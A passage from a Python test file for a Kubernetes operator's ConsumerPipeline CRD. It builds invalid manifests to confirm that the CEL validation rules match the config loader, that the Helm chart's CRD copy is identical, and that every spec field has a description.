    elif "!has(self.connectUrl)" in rule:
        submit = {"mode": "kubernetes", "connectUrl": "sc://x:15002"}
        spec["sink"] = {"spark": {"format": "json", "path": "/x", "submit": submit}}
    elif "has(self.serviceAccount)" in rule:
        submit = {"mode": "local", "image": "spark:4"}
        spec["sink"] = {"spark": {"format": "json", "path": "/x", "submit": submit}}
    elif "connectUrl" in rule:
        spec["sink"] = {"spark": {"format": "json", "path": "/x", "submit": {"mode": "connect"}}}
    elif "has(self.schema)" in rule:
        spec["sink"] = {"kafka": {"topic": "t", "format": "avro"}}
        spec["source"]["schemaRegistry"] = {"url": "http://registry:8080"}
    elif "has(self.schemaRegistry)" in rule:
        spec["source"]["format"] = "avro"
    elif "has(self.protobufMessage)" in rule:
        spec["source"]["format"] = "protobuf"
        spec["source"]["schemaRegistry"] = {"url": "http://registry:8080"}
    elif "retryTopics" in rule:
        spec["errors"] = {"retryTopics": [{"delaySeconds": 10}], "ordering": "strict"}
    elif "dlq" in rule:
        spec["errors"] = {"policy": "dlq"}
    elif "redrive" in rule:
        spec["redrive"] = {"id": "r1", "until": "2024-05-01T12:00:00Z"}
    elif "timestamp" in rule:
        spec["rewind"] = {"to": "timestamp", "id": "r1"}
        loader_rejects = False
    elif "minReplicas" in rule:
        spec["autoscaling"] = {"enabled": True, "minReplicas": 5, "maxReplicas": 2}
        loader_rejects = False
    elif "targetLagSeconds" in rule:
        spec["autoscaling"] = {"enabled": True, "targetLagSeconds": 30, "targetLagPerReplica": 9}
        loader_rejects = False  # the operator's parse_operator_spec rejects it, not the worker
    else:
        raise AssertionError(f"no breaking example for {rule}")
    return m, loader_rejects


@pytest.mark.parametrize("rule", sorted(CEL_MIRROR))
def test_each_cel_rule_rejects_what_the_loader_rejects(rule: str) -> None:
    manifest, loader_rejects = _breaking(rule)
    with pytest.raises(AssertionError, match="CEL rule"):
        validate(manifest)
    if loader_rejects:
        with pytest.raises(ConfigError):
            parse_pipeline(manifest)


def test_helm_chart_carries_the_same_crd() -> None:
    assert HELM_CRD_PATH.read_bytes() == CRD_PATH.read_bytes(), (
        "helm/offtake/crds/consumerpipeline.yaml differs from crds/consumerpipeline.yaml; "
        "copy it: cp crds/consumerpipeline.yaml helm/offtake/crds/"
    )


def _spec_fields(node: Mapping[str, Any], path: str) -> Iterator[tuple[str, Mapping[str, Any]]]:
    """Every field under ``node`` (array items' fields as ``name[].field``), depth first."""
    for key, child in (node.get("properties") or {}).items():
        here = f"{path}.{key}"
        yield here, child
        yield from _spec_fields(child, here)
        if child.get("type") == "array" and "items" in child:
            yield from _spec_fields(child["items"], f"{here}[]")


def test_every_spec_field_has_a_description_for_kubectl_explain() -> None:
    """kubectl explain cpl.spec... prints each field's description: none may be missing."""
    fields = list(_spec_fields(_schema()["properties"]["spec"], "spec"))
    assert len(fields) > 100  # the walk reached the nested fields
    missing = [path for path, node in fields if not str(node.get("description", "")).strip()]
    assert missing == [], f"{len(missing)} of {len(fields)} spec fields lack a description"
